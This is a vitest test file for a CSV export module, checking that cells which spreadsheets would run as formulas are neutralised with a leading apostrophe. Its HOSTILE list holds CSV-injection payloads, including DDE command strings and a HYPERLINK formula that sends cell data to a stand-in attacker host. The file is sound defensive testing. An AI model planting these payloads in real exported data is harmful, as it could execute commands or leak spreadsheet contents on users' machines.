import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { CSV_BOM, csvRecord, csvText } from './csv';

/** What a spreadsheet would see in each cell after reading the record. */
const cellsOf = (record: string) => (parse(record) as string[][])[0]!;
/** A spreadsheet runs a cell as a formula when it starts with one of these (after spaces, for some). */
const runsAsFormula = (cell: string) => /^[\t\r\n]/.test(cell) || /^[\s\u00a0\u3000\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell);

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?x="&A1,"Klikk")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+47 22 33 44 55',
  '+47 22',
  '-1',
  "-2+3+cmd|' /C calc'!A0",
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＠SUM(A1)',
  '=1;=2',
];

describe('csvRecord', () => {
  it.each(HOSTILE)('neutralises %j so no cell runs as a formula, and keeps the text', (name) => {
    const cells = cellsOf(csvRecord(['fb-0301', name, 3]));
    expect(cells.some(runsAsFormula)).toBe(false);
    expect(cells[1]).toBe(`'${name}`);
    expect(cells[2]).toBe('3');
  });

  it('keeps numbers numbers: JS numbers, and plain decimals in a numeric column', () => {
    expect(csvRecord([-3, -0.5, 0, 12])).toBe('-3,-0.5,0,12');
    expect(csvRecord(['-3', '-0,5', '-0.5', '7'], [true, true, true, true])).toBe('-3,"-0,5",-0.5,7');
  });

  it("treats a numeric column's text that is not a plain number as text", () => {
    expect(cellsOf(csvRecord(['-3+cmd|x', '+47 22', '-Infinity'], [true, true, true]))).toEqual(["'-3+cmd|x", "'+47 22", "'-Infinity"]);
    expect(cellsOf(csvRecord([-Infinity, NaN]))).toEqual(["'-Infinity", 'NaN']);
  });

  it('leaves ordinary text alone and quotes what needs quoting', () => {
    expect(csvRecord(['Oslo', 'Nord-Fron', 'a,b', 'sa "hei"', null, undefined, true])).toBe('Oslo,Nord-Fron,"a,b","sa ""hei""",,,true');
  });

  it('runs the same in the browser from its source text', () => {
    // EmbedPage.astro embeds csvRecord.toString(): the copy must behave exactly like the module.
    const copy = new Function(`return (${csvRecord.toString()});`)() as typeof csvRecord;
    for (const name of [...HOSTILE, 'Oslo', '-3', 'a,b']) {
      expect(copy(['x', name, '-3'], [false, false, true])).toBe(csvRecord(['x', name, '-3'], [false, false, true]));
    }
  });
});

describe('csvText', () => {
  it('writes a header and rows with the chosen line ending', () => {
    expect(csvText(['a', 'b'], [['=1', -1]], '\r\n')).toBe('\ufeffa,b\r\n"\'=1",-1\r\n');
  });
  it('starts every file with one UTF-8 byte order mark, so Excel on Windows reads æøå right', () => {
    const text = csvText(['kommune'], [['Bærum'], ['Å']]);
    expect(text.startsWith(CSV_BOM)).toBe(true);
    expect(text.lastIndexOf(CSV_BOM)).toBe(0);
    expect([...Buffer.from(text, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });
});
